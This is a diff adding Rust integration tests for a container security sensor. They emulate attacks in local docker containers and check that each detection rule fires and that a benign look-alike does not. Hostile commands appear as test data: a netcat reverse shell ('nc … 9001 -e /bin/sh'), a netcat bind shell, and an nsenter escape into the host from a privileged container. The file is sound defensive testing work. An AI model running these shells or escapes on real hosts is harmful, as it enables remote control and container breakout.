@@ -1,0 +1,234 @@
+//! The rule catalog against real attacks: each rule's emulation (its ADS Validation section) on
+//! real containers with real tools must raise the alert with its key fields, and a benign
+//! look-alike from its False Positives section must not. Traffic goes only to the test's own
+//! containers and the docker bridge gateway.
+
+use std::{process::Command, time::Duration};
+
+use sensor_tests::{
+    Containers, Sensor, bridge_gateway, container_ip, docker, docker_run_rm, ev, image,
+};
+use serde_json::Value;
+
+const SETTLE: Duration = Duration::from_secs(3);
+const PRIVILEGED: [&str; 8] = [
+    "--cap-add",
+    "ALL",
+    "--cap-drop",
+    "SYS_RESOURCE",
+    "--security-opt",
+    "seccomp=unconfined",
+    "--security-opt",
+    "apparmor=unconfined",
+];
+
+fn run_rm(flags: &[&str], cmd: &[&str]) -> String {
+    let image = image();
+    let mut args: Vec<&str> = flags.to_vec();
+    args.push(&image);
+    args.extend_from_slice(cmd);
+    docker_run_rm(&args)
+}
+
+/// The fields every alert must carry.
+fn assert_alert_fields(a: &Value, rule: &str, cid: &str) {
+    assert_eq!(a["rule_id"], rule);
+    assert_eq!(
+        a["container"]["id"].as_str().unwrap().len(),
+        64,
+        "full container id: {a}"
+    );
+    assert_eq!(a["container"]["id"], cid);
+    assert_eq!(a["container"]["runtime"], "docker");
+    for key in ["id", "time", "rule_name", "severity", "summary", "response"] {
+        assert!(!a[key].is_null(), "alert without {key}: {a}");
+    }
+    assert!(!a["techniques"].as_array().unwrap().is_empty());
+    assert!(
+        !a["events"].as_array().unwrap().is_empty(),
+        "the triggering event is attached: {a}"
+    );
+    assert!(
+        ev::u64_of(&a["seq"]) > 0,
+        "spooled with a sequence number: {a}"
+    );
+}
+
+#[test]
+fn crs001_host_network_container() {
+    let sensor = Sensor::start("crs001");
+    let cid = run_rm(&["--network", "host"], &["true"]);
+    let a = sensor.expect_alert("CRS-001", &cid);
+    assert_alert_fields(&a, "CRS-001", &cid);
+    assert!(
+        a["process"]["host_namespaces"]
+            .as_array()
+            .unwrap()
+            .contains(&Value::from("net")),
+        "{a}"
+    );
+    // Benign: a bridged container; and runc joining the host network for the one above is not
+    // an escape (CRS-010 has a documented exception for it).
+    let benign = run_rm(&[], &["true"]);
+    sensor.assert_no_alert("CRS-001", &benign, SETTLE);
+    sensor.assert_no_alert("CRS-010", &cid, Duration::ZERO);
+}
+
+#[test]
+fn crs002_container_with_dangerous_capabilities() {
+    let sensor = Sensor::start("crs002");
+    let cid = run_rm(&["--cap-add", "SYS_ADMIN"], &["true"]);
+    let a = sensor.expect_alert("CRS-002", &cid);
+    assert_alert_fields(&a, "CRS-002", &cid);
+    assert!(
+        a["process"]["cap_effective"]
+            .as_array()
+            .unwrap()
+            .contains(&Value::from("CAP_SYS_ADMIN"))
+    );
+    let benign = run_rm(&[], &["true"]);
+    sensor.assert_no_alert("CRS-002", &benign, SETTLE);
+}
+
+#[test]
+fn crs006_short_lived_container_that_connected_out() {
+    let sensor = Sensor::start("crs006");
+    let gw = bridge_gateway();
+    let cid = run_rm(&[], &["sh", "-c", &format!("nc {gw} 9 </dev/null; exit 0")]);
+    let a = sensor.expect_alert("CRS-006", &cid);
+    assert_alert_fields(&a, "CRS-006", &cid);
+    let kinds: Vec<&str> = a["events"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|e| e["kind"].as_str().unwrap())
+        .collect();
+    assert!(
+        kinds.contains(&"socket") && kinds.last() == Some(&"container_exited"),
+        "evidence: {kinds:?}"
+    );
+    let benign = run_rm(&[], &["true"]);
+    sensor.assert_no_alert("CRS-006", &benign, SETTLE);
+}
+
+#[test]
+fn crs007_icmp_with_large_or_crafted_payloads() {
+    let sensor = Sensor::start_with("crs007", &["--flow-interval", "1"]);
+    let gw = bridge_gateway();
+    let large = run_rm(&[], &["ping", "-c", "2", "-s", "1400", &gw]);
+    let crafted = run_rm(&[], &["ping", "-c", "2", "-p", "41", &gw]);
+    let a = sensor.expect_alert("CRS-007", &large);
+    assert_alert_fields(&a, "CRS-007", &large);
+    assert!(a["summary"].as_str().unwrap().contains("1400-byte"), "{a}");
+    let b = sensor.expect_alert("CRS-007", &crafted);
+    assert!(
+        b["summary"].as_str().unwrap().contains("repeating-byte-41"),
+        "{b}"
+    );
+    let plain = run_rm(&[], &["ping", "-c", "2", &gw]);
+    sensor.assert_no_alert("CRS-007", &plain, SETTLE);
+}
+
+#[test]
+fn crs008_netcat_listener_with_exec() {
+    let sensor = Sensor::start("crs008");
+    let cid = docker(&[
+        "run",
+        "-d",
+        &image(),
+        "nc",
+        "-l",
+        "-p",
+        "8080",
+        "-e",
+        "/bin/sh",
+    ]);
+    let _cleanup = Containers(vec![cid.clone()]);
+    let a = sensor.expect_alert("CRS-008", &cid);
+    assert_alert_fields(&a, "CRS-008", &cid);
+    assert_eq!(
+        a["process"]["args"],
+        serde_json::json!(["nc", "-l", "-p", "8080", "-e", "/bin/sh"])
+    );
+    assert_eq!(a["severity"], "SEVERITY_HIGH");
+    // Benign: a plain client connection (no exec, no listen).
+    let gw = bridge_gateway();
+    let benign = run_rm(&[], &["sh", "-c", &format!("nc {gw} 9 </dev/null; exit 0")]);
+    sensor.assert_no_alert("CRS-008", &benign, SETTLE);
+}
+
+#[test]
+fn crs009_reverse_shell_over_netcat() {
+    let sensor = Sensor::start("crs009");
+    let listener = docker(&[
+        "run",
+        "-d",
+        &image(),
+        "sh",
+        "-c",
+        "(echo id; sleep 3) | nc -l -p 9001",
+    ]);
+    let _cleanup = Containers(vec![listener.clone()]);
+    let lip = container_ip(&listener);
+    sensor.expect("listener up", |e| {
+        e["kind"] == "socket" && e["socket"]["op"] == "listen" && ev::container_id(e) == listener
+    });
+    let shell = run_rm(&[], &["nc", &lip, "9001", "-e", "/bin/sh"]);
+    let a = sensor.expect_alert("CRS-009", &shell);
+    assert_alert_fields(&a, "CRS-009", &shell);
+    assert_eq!(a["severity"], "SEVERITY_CRITICAL");
+    assert!(
+        a["summary"]
+            .as_str()
+            .unwrap()
+            .contains(&format!("{lip}:9001")),
+        "{a}"
+    );
+    // Benign: a service that runs /bin/cat (not a shell) on its socket.
+    let echo = docker(&[
+        "run",
+        "-d",
+        &image(),
+        "nc",
+        "-ll",
+        "-p",
+        "9002",
+        "-e",
+        "/bin/cat",
+    ]);
+    let _cleanup2 = Containers(vec![echo.clone()]);
+    let eip = container_ip(&echo);
+    sensor.expect("echo up", |e| {
+        e["kind"] == "socket" && e["socket"]["op"] == "listen" && ev::container_id(e) == echo
+    });
+    run_rm(
+        &[],
+        &[
+            "sh",
+            "-c",
+            &format!("echo hi | nc {eip} 9002 >/dev/null; exit 0"),
+        ],
+    );
+    docker(&["rm", "-f", &echo]);
+    sensor.assert_no_alert("CRS-009", &echo, SETTLE);
+}
+
+#[test]
+fn crs010_nsenter_into_the_host() {
+    let sensor = Sensor::start("crs010");
+    let mut host = Command::new("sleep").arg("30").spawn().unwrap();
+    let mut flags = PRIVILEGED.to_vec();
+    flags.extend(["--pid", "host"]);
+    let cid = run_rm(
+        &flags,
+        &["nsenter", "-t", &host.id().to_string(), "-n", "/bin/true"],
+    );
+    let _ = host.kill();
+    let _ = host.wait();
+    let a = sensor.expect_alert("CRS-010", &cid);
+    assert_alert_fields(&a, "CRS-010", &cid);
+    assert_eq!(a["process"]["comm"], "nsenter");
+    // Benign: a new namespace of the container's own, not the host's.
+    let benign = run_rm(&PRIVILEGED, &["unshare", "-n", "/bin/true"]);
+    sensor.assert_no_alert("CRS-010", &benign, SETTLE);
+}
